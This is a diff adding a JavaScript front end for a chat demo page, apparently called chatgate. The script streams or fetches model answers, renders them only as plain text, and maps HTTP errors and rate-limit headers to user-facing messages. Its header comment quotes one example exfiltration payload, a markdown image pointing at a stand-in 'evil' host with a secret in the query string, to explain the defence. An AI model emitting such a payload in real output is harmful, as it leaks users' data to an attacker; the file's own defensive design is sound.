@@ -1,0 +1,249 @@
+/* chatgate demo page: sends a message to /api/chat and shows the answer as
+ * it arrives. Safety rules this file keeps:
+ *  - model text is only ever put on the page with textContent: never
+ *    innerHTML, never as a link, image or any element that loads something,
+ *    so an answer carrying ![x](http://evil/?d=secret) stays inert text;
+ *  - the page never sees the session token (the cookie is HttpOnly) and
+ *    stores nothing in localStorage or sessionStorage;
+ *  - it talks only to its own origin (the CSP says so too).
+ * It works with a streaming chatgate (text/event-stream) and with one that
+ * answers plain JSON. */
+'use strict';
+
+(function () {
+    const log = document.getElementById('log');
+    const form = document.getElementById('chat');
+    const input = document.getElementById('message');
+    const send = document.getElementById('send');
+    const status = document.getElementById('status');
+    const limits = document.getElementById('limits');
+    const login = document.getElementById('login');
+
+    function entry(role, label, text) {
+        const li = document.createElement('li');
+        li.className = role;
+        const who = document.createElement('span');
+        who.className = 'who';
+        who.textContent = label;
+        const body = document.createElement('div');
+        body.className = 'text';
+        body.textContent = text;
+        li.append(who, body);
+        log.append(li);
+        li.scrollIntoView({ block: 'end' });
+        return body;
+    }
+
+    /* The cookie is HttpOnly, so the page learns it is logged in only from
+     * the answers: offer the matching button. */
+    function loggedIn(yes) {
+        login.textContent = yes ? 'Log out' : 'Log in as demo';
+        login.href = yes ? '/demo-logout' : '/demo-login';
+        login.classList.toggle('attention', !yes);
+    }
+
+    function showError(text) {
+        entry('error', 'Error', text);
+    }
+
+    /* RateLimit: limit=N, remaining=R, reset=S (IETF draft) and, when the
+     * server sends one, any budget header. */
+    function showLimits(headers) {
+        const parts = [];
+        const rl = headers.get('RateLimit');
+        if (rl) {
+            const f = {};
+            for (const kv of rl.split(',')) {
+                const m = kv.trim().match(/^(\w+)=(\d+)/);
+                if (m) {
+                    f[m[1]] = Number(m[2]);
+                }
+            }
+            if ('remaining' in f && 'limit' in f) {
+                parts.push(f.remaining + ' of ' + f.limit
+                           + ' requests left this minute');
+            }
+        }
+        for (const [name, value] of headers) {
+            if (/budget/i.test(name)) {
+                parts.push(name.replace(/^x-/i, '') + ': ' + value);
+            }
+        }
+        if (parts.length) {
+            limits.textContent = parts.join(' · ');
+        }
+    }
+
+    function retryText(headers) {
+        const s = parseInt(headers && headers.get('Retry-After'), 10);
+        if (!(s >= 0)) {
+            return 'Please wait a minute and try again.';
+        }
+        return 'Please wait ' + s + (s === 1 ? ' second' : ' seconds')
+               + ' and try again.';
+    }
+
+    /* Words a user understands, by HTTP status or by error type. */
+    function errorText(status, type, message, headers) {
+        if (status === 401 || type === 'authentication_error') {
+            loggedIn(false);
+            return 'Please log in to chat (use the "Log in" button above).';
+        }
+        if (status === 429 || type === 'rate_limited') {
+            return 'You have sent too many messages. ' + retryText(headers);
+        }
+        if (status === 403) {
+            return 'This page is not allowed to use the chat service.';
+        }
+        if (status === 413) {
+            return 'Your message is too long.';
+        }
+        if (status === 400) {
+            return 'Your message could not be sent: '
+                   + (message || 'the request was not valid.');
+        }
+        if (status >= 500 || /^(upstream|service)_/.test(type || '')) {
+            return 'The AI service is unavailable right now. '
+                   + 'Please try again in a moment.';
+        }
+        return 'The request was refused (' + (message || 'status ' + status)
+               + ').';
+    }
+
+    /* Server-Sent Events from a fetch body: calls onEvent(name, data) for
+     * each event; comments (": ping") are skipped. */
+    async function readEvents(body, onEvent) {
+        const reader = body.pipeThrough(new TextDecoderStream()).getReader();
+        let buf = '';
+        for (;;) {
+            const { value, done } = await reader.read();
+            if (done) {
+                break;
+            }
+            buf = (buf + value).replace(/\r\n/g, '\n');
+            let end;
+            while ((end = buf.indexOf('\n\n')) >= 0) {
+                dispatch(buf.slice(0, end), onEvent);
+                buf = buf.slice(end + 2);
+            }
+        }
+        if (buf.trim() !== '') {
+            dispatch(buf, onEvent);
+        }
+    }
+
+    function dispatch(block, onEvent) {
+        let name = 'message';
+        const data = [];
+        for (const line of block.split('\n')) {
+            if (line === '' || line[0] === ':') {
+                continue;
+            }
+            const c = line.indexOf(':');
+            const field = c < 0 ? line : line.slice(0, c);
+            let value = c < 0 ? '' : line.slice(c + 1);
+            if (value[0] === ' ') {
+                value = value.slice(1);
+            }
+            if (field === 'event') {
+                name = value;
+            } else if (field === 'data') {
+                data.push(value);
+            }
+        }
+        if (data.length) {
+            onEvent(name, JSON.parse(data.join('\n')));
+        }
+    }
+
+    async function streamAnswer(res) {
+        const out = entry('assistant', 'Assistant', '');
+        out.parentNode.dataset.mode = 'stream';
+        let finished = false;
+        await readEvents(res.body, function (name, data) {
+            if (name === 'delta' && typeof data.text === 'string') {
+                out.textContent += data.text;
+            } else if (name === 'done') {
+                finished = true;
+                out.parentNode.dataset.done = '1';
+            } else if (name === 'error') {
+                finished = true;
+                const e = data.error || {};
+                showError(errorText(0, e.type, e.message, null));
+            }
+        });
+        if (!finished) {
+            showError('The answer was cut off. Please try again.');
+        }
+    }
+
+    async function jsonAnswer(res) {
+        let data = null;
+        try {
+            data = await res.json();
+        } catch (e) {
+            data = null;
+        }
+        if (res.ok && data && typeof data.text === 'string') {
+            const out = entry('assistant', 'Assistant', data.text);
+            out.parentNode.dataset.mode = 'json';
+            out.parentNode.dataset.done = '1';
+            return;
+        }
+        const e = (data && data.error) || {};
+        showError(errorText(res.status, e.type, e.message, res.headers));
+    }
+
+    async function ask(message) {
+        const res = await fetch('/api/chat', {
+            method: 'POST',
+            credentials: 'same-origin',
+            cache: 'no-store',
+            referrerPolicy: 'no-referrer',
+            headers: {
+                'Content-Type': 'application/json',
+                'Accept': 'text/event-stream, application/json'
+            },
+            body: JSON.stringify({ message: message, stream: true })
+        });
+        showLimits(res.headers);
+        if (res.ok) {
+            loggedIn(true);
+        }
+        const type = res.headers.get('Content-Type') || '';
+        if (res.ok && type.startsWith('text/event-stream')) {
+            await streamAnswer(res);
+        } else {
+            await jsonAnswer(res);
+        }
+    }
+
+    form.addEventListener('submit', async function (ev) {
+        ev.preventDefault();
+        const message = input.value.trim();
+        if (message === '' || send.disabled) {
+            return;
+        }
+        entry('user', 'You', message);
+        input.value = '';
+        send.disabled = true;
+        status.textContent = 'Waiting for the answer…';
+        try {
+            await ask(message);
+        } catch (e) {
+            showError('The chat service could not be reached. '
+                      + 'Check your connection and try again.');
+        } finally {
+            status.textContent = '';
+            send.disabled = false;
+            input.focus();
+        }
+    });
+
+    input.addEventListener('keydown', function (ev) {
+        if (ev.key === 'Enter' && !ev.shiftKey) {
+            ev.preventDefault();
+            form.requestSubmit();
+        }
+    });
+})();
